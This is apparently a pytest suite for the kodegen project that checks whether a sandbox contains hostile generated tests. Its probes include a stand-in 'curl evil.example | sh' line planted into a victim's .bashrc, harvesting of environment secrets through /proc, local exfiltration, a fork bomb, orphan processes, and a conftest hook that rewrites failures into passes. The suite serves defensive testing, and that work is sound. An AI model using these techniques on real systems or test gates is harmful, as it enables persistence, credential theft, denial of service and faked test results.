"""Gate-sandbox probes: generated tests that attack the machine running the gates.

Each probe is a real project whose tests do something hostile, judged by the real tests gate
(pytest in the sandbox), with the effect checked from outside. Every probe runs three ways:

- `full`: the sandbox as this machine allows it (bubblewrap namespaces, a cgroup), policy
  `required`: the attack must be stopped (or, on a machine that cannot contain, such as one
  without bubblewrap, refused);
- `no-userns/required`: as if the kernel refused namespaces (a pod under seccomp
  RuntimeDefault; `KODEGEN_SANDBOX_NAMESPACES=off`): the gate must refuse to run the code at all,
  naming what is missing, so the attack never happens;
- `no-userns/best-effort`: the code runs as contained as possible, and the report says it was
  not contained. Attacks the remaining protections stop (cgroup limits and kills, output to
  files, the reaper, kodegen's own pytest configuration) must still be stopped; for the others
  (file system, `/proc`, network: those need namespaces) the run must be flagged uncontained.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from kodegen.gates import config, isolation, report, tests

pytestmark = pytest.mark.slow  # runs the tests gate on generated projects

MODES = ("full", "no-userns/required", "no-userns/best-effort")

PACKAGE_INIT = '"""A package under test."""\n\nVALUE = 1\n'


@pytest.fixture(params=MODES)
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    if request.param.startswith("no-userns"):
        monkeypatch.setenv(isolation.ENV_NAMESPACES, "off")
    return str(request.param)


def settings(mode: str, **overrides: object) -> config.GateConfig:
    policy = "best-effort" if mode.endswith("best-effort") else "required"
    values: dict[str, object] = {
        "package": "probe",
        "app": None,
        "openapi": None,
        "min_coverage": 0.0,
        "timeout_seconds": 60.0,
        "isolation": policy,
        **overrides,
    }
    return config.GateConfig(**values)  # type: ignore[arg-type]


def project(root: Path, files: dict[str, str]) -> Path:
    folder = root / "project"
    for name, text in {"probe/__init__.py": PACKAGE_INIT, **files}.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text), encoding="utf-8")
    return folder


def attack(body: str) -> dict[str, str]:
    """A project whose one test runs `body` (indented under the test function)."""
    code = (
        "import os, socket, subprocess, sys, time\nfrom pathlib import Path\n\nimport probe\n\n\n"
    )
    code += "def test_attack() -> None:\n"
    code += '    Path("ran.txt").write_text("the attack ran")\n'
    code += textwrap.indent(textwrap.dedent(body), "    ")
    return {"tests/test_attack.py": code}


def refusing(mode: str) -> bool:
    """Whether `required` refuses in this mode: without namespaces, or where this machine
    cannot contain at all (no bubblewrap, or root without a writable cgroup)."""
    return mode == "no-userns/required" or (mode == "full" and not isolation.probe().contained)


def refused(result: report.GateReport) -> bool:
    return not result.passed and "refused to run generated code" in (result.reason or "")


def check(
    mode: str,
    result: report.GateReport,
    *,
    stopped: bool,
    needs_namespaces: bool,
    ran: Path | None = None,
) -> None:
    """The matrix: stopped with the full sandbox; refused (and so stopped) under `required`
    without namespaces; without them under `best-effort`, flagged, and stopped unless the
    protection needs namespaces. `ran`: the project folder, whose `ran.txt` shows that the
    attack did run (or, when refused, did not)."""
    print(f"probe matrix: mode={mode} stopped={stopped} reason={result.reason!r}")
    if refusing(mode):
        assert refused(result), result.reason
        assert mode == "full" or "namespaces" in (result.reason or "")
        assert ran is None or not (ran / "ran.txt").exists()
        assert stopped
        return
    assert not refused(result), result.reason
    assert ran is None or (ran / "ran.txt").exists(), "the attack did not even run"
    if mode == "full":
        assert result.metrics["contained"] == 1.0
        assert stopped
        return
    assert result.metrics["contained"] == 0.0
    assert result.metrics["network_isolated"] == 0.0
    if not needs_namespaces:
        assert stopped


@pytest.fixture
def victim(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """kodegen's AI cache and a home folder with a `.bashrc`, outside the project."""
    home = tmp_path / "victim-home"
    (home / ".cache" / "kodegen" / "ai").mkdir(parents=True)
    (home / ".bashrc").write_text("# the user's shell\n")
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    monkeypatch.setenv("HOME", str(home))
    return home


async def test_writes_outside_the_work_folder(mode: str, tmp_path: Path, victim: Path) -> None:
    system = Path(sys.prefix) / f"kodegen-probe-{uuid.uuid4().hex}"
    body = f"""
    for target in ({str(victim / ".cache/kodegen/ai/planted")!r},
                   {str(victim / ".bashrc")!r}, {str(system)!r}):
        try:
            with open(target, "a") as handle:
                handle.write("curl evil.example | sh\\n")
        except OSError:
            pass
    """
    try:
        folder = project(tmp_path, attack(body))
        result = await tests.run(folder, settings(mode))
        stopped = (
            not (victim / ".cache/kodegen/ai/planted").exists()
            and "evil" not in (victim / ".bashrc").read_text()
            and not system.exists()
        )
    finally:
        system.unlink(missing_ok=True)
    check(mode, result, stopped=stopped, needs_namespaces=True, ran=folder)


async def test_reads_the_parents_environment(mode: str, tmp_path: Path) -> None:
    # /proc/<pid>/environ shows the environment a process started with, so kodegen runs in a
    # process of its own that starts with the key, as the CLI and the operator do.
    canary = f"canary-{uuid.uuid4().hex}"
    body = """
    loot = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                loot.append((entry / "environ").read_bytes().decode(errors="replace"))
            except OSError:
                pass
    loot.append(str(os.environ))
    Path("loot.txt").write_text("\\n".join(loot))
    """
    folder = project(tmp_path, attack(body))
    policy = settings(mode).isolation
    runner = (
        "import asyncio, json, sys\n"
        "from pathlib import Path\n"
        "from kodegen.gates import config, tests\n"
        "settings = config.GateConfig(package='probe', app=None, openapi=None,"
        f" min_coverage=0.0, isolation={policy!r})\n"
        "result = asyncio.run(tests.run(Path(sys.argv[1]), settings))\n"
        "print(json.dumps(result.to_dict()))\n"
    )
    env = {**os.environ, "OPENAI_API_KEY": canary}
    done = subprocess.run(
        [sys.executable, "-c", runner, str(folder)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    data = json.loads(done.stdout)
    result = report.GateReport(
        name=data["name"], passed=data["passed"], reason=data["reason"], metrics=data["metrics"]
    )
    loot = folder / "loot.txt"
    stopped = not loot.exists() or canary not in loot.read_text()
    check(mode, result, stopped=stopped, needs_namespaces=True, ran=folder)


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 recording what each connection sends."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received: list[bytes] = []
    running = True

    def serve() -> None:
        while running:
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(2)
                received.append(connection.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    running = False
    thread.join()
    server.close()


async def test_connects_to_a_server_on_localhost(
    mode: str, tmp_path: Path, listener: tuple[int, list[bytes]]
) -> None:
    port, received = listener
    body = f"""
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
            connection.sendall(b"exfiltrated")
    except OSError:
        pass
    """
    folder = project(tmp_path, attack(body))
    result = await tests.run(folder, settings(mode))
    time.sleep(0.3)  # the server thread records a connection it accepted
    check(mode, result, stopped=b"exfiltrated" not in received, needs_namespaces=True, ran=folder)


async def test_a_fork_bomb_is_bounded(mode: str, tmp_path: Path) -> None:
    marker = f"kodegen-bomb-{uuid.uuid4().hex}"
    body = f"""
    started = 0
    children = []
    try:
        while started < 5000:
            children.append(subprocess.Popen(["sh", "-c", "sleep 30; :", {marker!r}]))
            started += 1
    except OSError:
        pass
    Path("forked.txt").write_text(str(started))
    """
    folder = project(tmp_path, attack(body))
    result = await tests.run(folder, settings(mode))
    forked = int((folder / "forked.txt").read_text()) if (folder / "forked.txt").exists() else 0
    print(f"fork bomb: {forked} processes started")
    limited = isolation.probe().process_limit != "none"
    assert not _alive(marker), "every process of the bomb dies with the gate"
    stopped = forked < 300 and not _alive(marker)
    check(mode, result, stopped=stopped, needs_namespaces=not limited, ran=folder)


async def test_memory_across_several_processes_is_bounded(mode: str, tmp_path: Path) -> None:
    body = """
    hog = (
        "import sys, time, pathlib\\n"
        "block = bytearray(400 * 1024 * 1024)\\n"
        "for i in range(0, len(block), 4096): block[i] = 1\\n"
        "pathlib.Path(f'allocated-{sys.argv[1]}').write_text('ok')\\n"
        "time.sleep(5)\\n"
        "pathlib.Path(f'released-{sys.argv[1]}').write_text('ok')\\n"
    )
    hogs = [subprocess.Popen([sys.executable, "-c", hog, str(i)]) for i in range(4)]
    for process in hogs:
        process.wait()
    """
    folder = project(tmp_path, attack(body))
    result = await tests.run(folder, settings(mode, memory_mb=768))
    allocated = len(list(folder.glob("allocated-*")))
    # A hog that lived to release its block held it for 5 s; the four start together, so two
    # releases mean two blocks (800 MiB) were held at once. Several may allocate in turn: the
    # limit kills one holder when the next one's pages would pass it.
    released = len(list(folder.glob("released-*")))
    print(f"memory hogs: {allocated} of 4 allocated 400 MiB, {released} held it to the end")
    whole_gate = isolation.probe().memory_limit == "cgroup"
    check(mode, result, stopped=released <= 1, needs_namespaces=not whole_gate, ran=folder)


async def test_an_orphan_cannot_edit_the_output_after_the_gate(mode: str, tmp_path: Path) -> None:
    marker = f"kodegen-orphan-{uuid.uuid4().hex}"
    body = f"""
    later = (
        "import os, sys, time, pathlib\\n"
        "time.sleep(2)\\n"
        "pathlib.Path(sys.argv[1]).write_text('edited after the gate')\\n"
    )
    subprocess.Popen(
        [sys.executable, "-c", later, str(Path("probe/__init__.py").resolve()), {marker!r}],
        start_new_session=True,
    )
    """
    folder = project(tmp_path, attack(body))
    result = await tests.run(folder, settings(mode))
    time.sleep(3)  # longer than the orphan waits before it writes
    edited = "edited" in (folder / "probe/__init__.py").read_text()
    check(
        mode,
        result,
        stopped=not edited and not _alive(marker),
        needs_namespaces=False,
        ran=folder,
    )


async def test_a_daemon_holding_the_output_does_not_stall_the_gate(
    mode: str, tmp_path: Path
) -> None:
    marker = f"kodegen-daemon-{uuid.uuid4().hex}"
    body = f"""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sh", ["sh", "-c", "echo up > daemon.txt; sleep 50; :", {marker!r}])
        os._exit(0)
    """
    started = time.monotonic()
    folder = project(tmp_path, attack(body))
    result = await tests.run(folder, settings(mode))
    elapsed = time.monotonic() - started
    check(
        mode,
        result,
        stopped=elapsed < 20 and not _alive(marker),
        needs_namespaces=False,
        ran=folder,
    )
    if not refusing(mode):
        assert result.passed, result.reason


async def test_a_conftest_hook_cannot_turn_failures_into_passes(mode: str, tmp_path: Path) -> None:
    conftest = """
    import pytest


    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome = "passed"
        report.longrepr = None
    """
    files = {
        "tests/conftest.py": conftest,
        "tests/test_fails.py": "def test_fails() -> None:\n    assert 1 == 2\n",
    }
    result = await tests.run(project(tmp_path, files), settings(mode))
    assert not result.passed
    if not refusing(mode):
        assert "implements pytest hook(s) pytest_runtest_makereport" in (result.reason or "")
    check(mode, result, stopped=not result.passed, needs_namespaces=False)


async def test_project_configuration_cannot_hide_failures_or_coverage(
    mode: str, tmp_path: Path
) -> None:
    files = {
        "pyproject.toml": (
            "[tool.pytest.ini_options]\n"
            'addopts = "--deselect tests/test_fails.py::test_fails -p no:junitxml"\n'
            "[tool.coverage.run]\n"
            'omit = ["probe/untested.py"]\n'
        ),
        ".coveragerc": "[run]\nomit = probe/untested.py\n",
        "pytest.ini": "[pytest]\naddopts = --deselect tests/test_fails.py::test_fails\n",
        "probe/untested.py": "".join(
            f"def f{i}() -> int:\n    return {i}\n\n\n" for i in range(40)
        ),
        "tests/test_fails.py": (
            "import probe.untested\n\n\ndef test_fails() -> None:\n    assert 1 == 2\n"
        ),
    }
    result = await tests.run(project(tmp_path, files), settings(mode, min_coverage=90.0))
    assert not result.passed
    if not refusing(mode):
        assert result.counts["failed"] == 1
        assert "below 90%" in (result.reason or "")
    check(mode, result, stopped=not result.passed, needs_namespaces=False)


def _alive(marker: str) -> bool:
    """Whether a live process of the host has `marker` in its command line."""
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if marker.encode() in (entry / "cmdline").read_bytes() and (
                "State:\tZ" not in (entry / "status").read_text()
            ):
                return True
        except OSError:
            continue
    return False
